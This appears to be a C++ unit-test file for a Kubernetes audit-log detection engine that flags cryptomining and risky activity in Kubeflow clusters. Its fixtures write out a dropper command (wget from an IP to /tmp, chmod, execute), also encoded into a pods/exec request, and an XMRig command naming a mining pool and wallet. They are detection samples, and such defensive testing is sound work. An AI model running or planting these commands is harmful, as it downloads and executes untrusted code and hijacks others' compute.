// What the engine learns between events: who created what (attribution through owners and
// Kubeflow's creator annotations), which identities are controllers, who is new; and the
// catalog's verdicts on images and commands inside any kind of workload.
#include <gtest/gtest.h>

#include <set>

#include <nlohmann/json.hpp>

#include "audit_test_support.hpp"

namespace mg::audit::testing {
namespace {

using nlohmann::json;

// 2024-06-03T00:00:00Z plus minutes.
std::string at_minute(int minute) {
  char text[40];
  std::snprintf(text, sizeof text, "2024-06-03T%02d:%02d:00.000000Z", minute / 60, minute % 60);
  return text;
}

int g_id = 0;

json event(int minute, const std::string& user, const std::string& verb, const std::string& resource,
           const std::string& ns, const std::string& name, int code, json object = nullptr) {
  json e = {{"kind", "Event"},
            {"apiVersion", "audit.k8s.io/v1"},
            {"level", object.is_null() ? "Metadata" : "RequestResponse"},
            {"auditID", "id-" + std::to_string(++g_id)},
            {"stage", "ResponseComplete"},
            {"verb", verb},
            {"user", {{"username", user}, {"groups", {"system:authenticated"}}}},
            {"objectRef", {{"resource", resource}, {"namespace", ns}, {"name", name}, {"apiVersion", "v1"}}},
            {"responseStatus", {{"code", code}}},
            {"requestReceivedTimestamp", at_minute(minute)}};
  if (!object.is_null()) e["requestObject"] = object;
  return e;
}

json pod(const std::string& name, const std::string& image, json owner = nullptr, json extra = json::object()) {
  json container = {{"name", "main"}, {"image", image}};
  container.update(extra);
  json p = {{"apiVersion", "v1"}, {"kind", "Pod"}, {"metadata", {{"name", name}}}, {"spec", {{"containers", {container}}}}};
  if (!owner.is_null()) p["metadata"]["ownerReferences"] = json::array({owner});
  return p;
}

json owner(const std::string& kind, const std::string& name) {
  return {{"apiVersion", "v1"}, {"kind", kind}, {"name", name}, {"uid", "u-" + name}, {"controller", true}};
}

std::string lines(const std::vector<json>& events) {
  std::string text;
  for (const auto& e : events) text += e.dump() + "\n";
  return text;
}

const core::Finding* find(const std::vector<core::Finding>& findings, std::string_view rule) {
  for (const auto& f : findings)
    if (f.rule_id == rule) return &f;
  return nullptr;
}

TEST(Engine, APodOfANotebookIsAttributedToTheNotebooksCreator) {
  json notebook = {{"apiVersion", "kubeflow.org/v1"},
                   {"kind", "Notebook"},
                   {"metadata", {{"name", "nb"}, {"namespace", "team"},
                                 {"annotations", {{"notebooks.kubeflow.org/creator", "mallory@example.com"}}}}},
                   {"spec", {{"template", {{"spec", {{"containers", {{{"name", "nb"}, {"image", "ddsfdfsaadfs/dfsdf:99"}}}}}}}}}}};
  json statefulset = {{"apiVersion", "apps/v1"},
                      {"kind", "StatefulSet"},
                      {"metadata", {{"name", "nb"}, {"namespace", "team"}, {"ownerReferences", {owner("Notebook", "nb")}}}},
                      {"spec", {{"template", {{"spec", {{"containers", {{{"name", "nb"}, {"image", "ddsfdfsaadfs/dfsdf:99"}}}}}}}}}}};
  auto text = lines({
      event(0, "system:serviceaccount:kubeflow:jupyter-web-app-service-account", "create", "notebooks", "team", "nb", 201, notebook),
      event(1, "system:serviceaccount:kubeflow:notebook-controller-service-account", "create", "statefulsets", "team", "nb", 201, statefulset),
      event(2, "system:serviceaccount:kube-system:statefulset-controller", "create", "pods", "team", "nb-0", 201,
            pod("nb-0", "ddsfdfsaadfs/dfsdf:99", owner("StatefulSet", "nb"))),
  });
  auto run = run_default(text);
  std::vector<const core::Finding*> miner;
  for (const auto& f : run.findings)
    if (f.rule_id == "MG-AUD-001") miner.push_back(&f);
  ASSERT_EQ(miner.size(), 3u) << "the Notebook, its StatefulSet and its Pod";
  EXPECT_EQ(event_of(*miner[0]).resource, "notebooks");
  EXPECT_EQ(miner[0]->severity, core::Severity::critical);
  EXPECT_TRUE(has_evidence(*miner[0], "ddsfdfsaadfs/dfsdf:99"));
  for (const auto* f : miner) EXPECT_TRUE(has_evidence(*f, "mallory@example.com")) << event_of(*f).resource;
  // Controllers acting for someone are not "service accounts creating workloads".
  EXPECT_EQ(find(run.findings, "MG-AUD-004"), nullptr);
}

TEST(Engine, ControllersAreLearnedFromTheObjectsTheyOwnNotClaimedByTokens) {
  json crd = {{"apiVersion", "example.com/v1"}, {"kind", "Trainer"}, {"metadata", {{"name", "t1"}, {"namespace", "ml"}}}};
  auto text = lines({
      event(0, "carol@example.com", "create", "trainers", "ml", "t1", 201, crd),
      // A custom operator's account creates the pods of the Trainer it owns: a controller.
      event(1, "system:serviceaccount:ml-system:trainer-operator", "create", "pods", "ml", "t1-0", 201,
            pod("t1-0", "registry.k8s.io/pause:3.9", owner("Trainer", "t1"))),
      event(2, "system:serviceaccount:ml-system:trainer-operator", "create", "pods", "ml", "t1-1", 201,
            pod("t1-1", "registry.k8s.io/pause:3.9")),
      // A notebook's token claims an owner it never saw created: not a controller.
      event(3, "system:serviceaccount:ml:default-editor", "create", "pods", "ml", "x-0", 201,
            pod("x-0", "registry.k8s.io/pause:3.9", owner("Trainer", "t-unknown"))),
      event(4, "system:serviceaccount:ml:default-editor", "create", "pods", "ml", "x-1", 201,
            pod("x-1", "registry.k8s.io/pause:3.9", owner("Trainer", "t1"))),
  });
  auto engine = make_engine();
  auto run = run_engine(*engine, text);
  std::vector<std::string> flagged;
  for (const auto& f : run.findings)
    if (f.rule_id == "MG-AUD-004") flagged.push_back(event_of(f).name);
  // The operator's first pod is flagged? No: it is learned from that very request (the owner was
  // created by someone else earlier), so neither of its pods is.
  EXPECT_EQ(flagged, (std::vector<std::string>{"x-0", "x-1"}));
  EXPECT_EQ(engine->stats().learned_controllers, 1u);
}

TEST(Engine, ControllersCanBeNamedByTheUser) {
  json deployment = {{"apiVersion", "apps/v1"}, {"kind", "Deployment"}, {"metadata", {{"name", "d"}}}};
  deployment["spec"]["template"]["spec"]["containers"] =
      json::array({json{{"name", "c"}, {"image", "registry.k8s.io/pause:3.9"}}});
  auto text = lines({event(0, "system:serviceaccount:ops:deployer", "create", "deployments", "ops", "d", 201, deployment)});
  EXPECT_NE(find(run_default(text).findings, "MG-AUD-004"), nullptr);
  EngineSettings settings;
  settings.controllers = {"system:serviceaccount:ops:*"};
  auto engine = make_engine(default_rules(), settings);
  EXPECT_EQ(find(run_engine(*engine, text).findings, "MG-AUD-004"), nullptr);
}

TEST(Engine, GpuWorkloadsOfNewActorsOnly) {
  json gpu_pod = pod("g", "nvcr.io/nvidia/pytorch:24.01-py3", nullptr,
                     json{{"resources", {{"limits", {{"nvidia.com/gpu", "1"}}}}}});
  auto text = lines({
      event(0, "alice@example.com", "get", "pods", "team", "", 200),
      event(150, "alice@example.com", "create", "pods", "team", "g1", 201, gpu_pod),   // known for 2.5 h
      event(160, "eve@example.com", "create", "pods", "team", "g2", 201, gpu_pod),     // first seen after 2.6 h
      event(300, "eve@example.com", "create", "pods", "team", "g3", 201, gpu_pod),     // no longer new
  });
  auto run = run_default(text);
  std::vector<std::string> flagged;
  for (const auto& f : run.findings)
    if (f.rule_id == "MG-AUD-013") flagged.push_back(event_of(f).name);
  EXPECT_EQ(flagged, std::vector<std::string>{"g2"});
}

TEST(Engine, MinerCommandsAreJudgedByTheCatalog) {
  const std::string dropper = "wget -q http://203.0.113.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x";
  const std::string miner = "/tmp/x -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1";
  json tfjob = {{"apiVersion", "kubeflow.org/v1"},
                {"kind", "TFJob"},
                {"metadata", {{"name", "train"}}},
                {"spec", {{"tfReplicaSpecs", {{"Worker", {{"template", {{"spec", {{"containers", {{{"name", "tensorflow"},
                  {"image", "tensorflow/tensorflow:2.15.0-gpu"}, {"command", {"sh", "-c", dropper + " " + miner}}}}}}}}}}}}}}}};
  json benign = {{"apiVersion", "kubeflow.org/v1"},
                 {"kind", "TFJob"},
                 {"metadata", {{"name", "ok"}}},
                 {"spec", {{"tfReplicaSpecs", {{"Worker", {{"template", {{"spec", {{"containers", {{{"name", "tensorflow"},
                   {"image", "tensorflow/tensorflow:2.15.0-gpu"}, {"command", {"python", "/opt/train.py", "--epochs", "10"}}}}}}}}}}}}}}}};
  auto run = run_default(lines({event(0, "bob@example.com", "create", "tfjobs", "team", "train", 201, tfjob),
                                event(1, "bob@example.com", "create", "tfjobs", "team", "ok", 201, benign)}));
  const auto* f = find(run.findings, "MG-AUD-002");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, core::Severity::critical);
  EXPECT_EQ(event_of(*f).name, "train");
  EXPECT_TRUE(has_evidence(*f, "spec.tfReplicaSpecs.Worker.template.spec.containers[0].command"));
  for (const auto& finding : run.findings) {
    if (event_of(finding).name == "ok") {
      EXPECT_LE(finding.severity, core::Severity::low) << finding.rule_id;
    }
  }

  // The same command through pods/exec.
  std::string uri = "/api/v1/namespaces/team/pods/nb-0/exec?command=sh&command=-c&command=";
  for (char c : dropper + " " + miner) {  // as kubectl encodes it: '+' for spaces, %XX for the rest
    if (std::isalnum(static_cast<unsigned char>(c)) || c == '-' || c == '.' || c == '_') {
      uri += c;
    } else if (c == ' ') {
      uri += '+';
    } else {
      char hex[4];
      std::snprintf(hex, sizeof hex, "%%%02X", static_cast<unsigned char>(c));
      uri += hex;
    }
  }
  json exec = event(2, "system:serviceaccount:team:default-editor", "create", "pods", "team", "nb-0", 101);
  exec["objectRef"]["subresource"] = "exec";
  exec["requestURI"] = uri;
  auto exec_run = run_default(exec.dump() + "\n");
  EXPECT_NE(find(exec_run.findings, "MG-AUD-007"), nullptr);
  EXPECT_NE(find(exec_run.findings, "MG-AUD-006"), nullptr);
}

TEST(Engine, ABenignCommandSeenBeforeDoesNotHideAMinerInTheNextPods) {
  // The engine keeps the commands it judged benign; a pod that differs from them by one argument,
  // or the same miner pod twice, is judged on its own.
  const std::string wallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
  auto with_args = [](const std::string& name, json args) {
    return pod(name, "python:3.11", nullptr, {{"command", {"python", "train.py"}}, {"args", std::move(args)}});
  };
  std::vector<json> events;
  for (int i = 0; i < 3; ++i)
    events.push_back(event(i, "alice@example.com", "create", "pods", "team", "ok-" + std::to_string(i), 201,
                           with_args("ok-" + std::to_string(i), {"--epochs", "10"})));
  for (int i = 0; i < 2; ++i)
    events.push_back(event(10 + i, "alice@example.com", "create", "pods", "team", "bad-" + std::to_string(i), 201,
                           with_args("bad-" + std::to_string(i), {"--epochs", "10", "-o", "stratum+tcp://pool.supportxmr.com:3333",
                                                                 "-u", wallet, "--donate-level", "1"})));
  const auto run = run_default(lines(events));
  std::set<std::string> judged_miners;
  for (const auto& f : run.findings)
    if (f.rule_id == "MG-AUD-002") judged_miners.insert(event_of(f).name);
  EXPECT_EQ(judged_miners, (std::set<std::string>{"bad-0", "bad-1"}));
}

TEST(Engine, EachEventSeesOnlyItsOwnRequestObject) {
  // The engine parses every request object over the tree of the one before (to reuse its storage):
  // nothing of a miner pod may reach the events after it, whether they carry no object (Metadata
  // level), an object that is not JSON, or a smaller pod.
  auto first = event(0, "alice@example.com", "create", "pods", "team", "miner", 201,
                     pod("miner", "ddsfdfsaadfs/dfsdf:99", nullptr, {{"command", {"xmrig", "--donate-level", "1"}}}));
  auto metadata_only = event(1, "alice@example.com", "create", "pods", "team", "no-object", 201);
  std::string not_json = event(2, "alice@example.com", "create", "pods", "team", "not-json", 201, json::object({{"x", 1}})).dump();
  not_json.replace(not_json.find(R"({"x":1})"), 7, R"({"x":1,})");  // a trailing comma: not JSON
  auto small = event(3, "alice@example.com", "create", "pods", "team", "small", 201,
                     json{{"apiVersion", "v1"}, {"kind", "Pod"}, {"metadata", {{"name", "small"}}}});
  const auto run = run_default(lines({first, metadata_only}) + not_json + "\n" + lines({small}));
  std::set<std::string> workload_findings;
  for (const auto& f : run.findings)
    if (f.rule_id == "MG-AUD-001" || f.rule_id == "MG-AUD-002") workload_findings.insert(event_of(f).name);
  EXPECT_EQ(workload_findings, (std::set<std::string>{"miner"}));
}

TEST(Engine, APatchWithoutKindReadsItsKindAndNamespaceFromObjectRefInEveryField) {
  // A patch body leaves out kind, apiVersion and namespace; objectRef has them. The workload fields
  // (read from the parsed object) and requestObject fields (read from its tree) both see them, in
  // whichever order the rules ask.
  const std::string rules_text =
      "- rule: T-TREE\n  name: N\n  title: t\n  severity: high\n  category: execution\n  stage: execution\n"
      "  condition:\n    - {field: requestObject.kind, equals: Pod}\n"
      "    - {field: requestObject.metadata.namespace, equals: team}\n"
      "    - {field: requestObject.apiVersion, equals: v1}\n"
      "- rule: T-WORKLOAD\n  name: N\n  title: t\n  severity: high\n  category: execution\n  stage: execution\n"
      "  condition:\n    - {field: workload.kind, equals: Pod}\n    - {field: workload.images, equals: 'xmrig/xmrig'}\n";
  auto rules = load_rules({{"t.yaml", rules_text}});
  ASSERT_TRUE(rules) << rules.error().message;
  auto engine = make_engine(std::move(*rules));
  auto patch = event(0, "alice@example.com", "patch", "pods", "team", "p", 200,
                     json{{"spec", {{"containers", {{{"name", "main"}, {"image", "xmrig/xmrig"}}}}}}});
  const auto run = run_engine(*engine, lines({patch}));
  const auto ids = rule_ids(run.findings);
  EXPECT_EQ(std::set<std::string>(ids.begin(), ids.end()), (std::set<std::string>{"T-TREE", "T-WORKLOAD"}));
}

TEST(Engine, RegistryVerdictsAreKeptPerTestAndImage) {
  // The engine remembers each registry_not_in verdict by test and image: two tests with other
  // lists judge the same images each by its own list, on every event that carries them.
  auto rule = [](const std::string& id, const std::string& registry) {
    return "- rule: " + id + "\n  name: N\n  title: t\n  severity: high\n  category: execution\n  stage: execution\n"
           "  condition:\n    - {field: workload.images, registry_not_in: [" + registry + "]}\n";
  };
  auto rules = load_rules({{"t.yaml", rule("T-1", "docker.io") + rule("T-2", "ghcr.io")}});
  ASSERT_TRUE(rules) << rules.error().message;
  auto engine = make_engine(std::move(*rules));
  std::vector<json> events;
  for (int i = 0; i < 4; ++i) {
    const std::string image = i % 2 == 0 ? "ghcr.io/team/train:1" : "docker.io/library/python:3.11";
    events.push_back(event(i, "alice@example.com", "create", "pods", "team", "p" + std::to_string(i), 201,
                           pod("p" + std::to_string(i), image)));
  }
  const auto run = run_engine(*engine, lines(events));
  std::set<std::string> t1, t2;
  for (const auto& f : run.findings) (f.rule_id == "T-1" ? t1 : t2).insert(event_of(f).name);
  EXPECT_EQ(t1, (std::set<std::string>{"p0", "p2"}));   // ghcr.io images: not docker.io
  EXPECT_EQ(t2, (std::set<std::string>{"p1", "p3"}));   // docker.io images: not ghcr.io
}

TEST(Engine, FailedRequestsRaiseNothing) {
  json binding = {{"apiVersion", "rbac.authorization.k8s.io/v1"}, {"kind", "ClusterRoleBinding"},
                  {"metadata", {{"name", "b"}}}, {"roleRef", {{"kind", "ClusterRole"}, {"name", "cluster-admin"}}}};
  auto denied = event(0, "system:serviceaccount:team:default-editor", "create", "clusterrolebindings", "", "b", 403, binding);
  auto allowed = event(1, "system:serviceaccount:team:default-editor", "create", "clusterrolebindings", "", "b", 201, binding);
  auto run = run_default(lines({denied, allowed}));
  ASSERT_EQ(run.findings.size(), 1u);
  EXPECT_EQ(run.findings[0].rule_id, "MG-AUD-010");
  EXPECT_EQ(event_of(run.findings[0]).audit_id, allowed["auditID"]);
}

TEST(Engine, AnonymousHealthChecksAreNotFindings) {
  json health = event(0, "system:anonymous", "get", "", "", "", 200);
  health.erase("objectRef");
  health["requestURI"] = "/healthz";
  json list = event(1, "system:anonymous", "list", "secrets", "kube-system", "", 200);
  auto run = run_default(lines({health, list}));
  ASSERT_EQ(run.findings.size(), 1u);
  EXPECT_EQ(run.findings[0].rule_id, "MG-AUD-009");
  EXPECT_EQ(event_of(run.findings[0]).resource, "secrets");
}

}  // namespace
}  // namespace mg::audit::testing
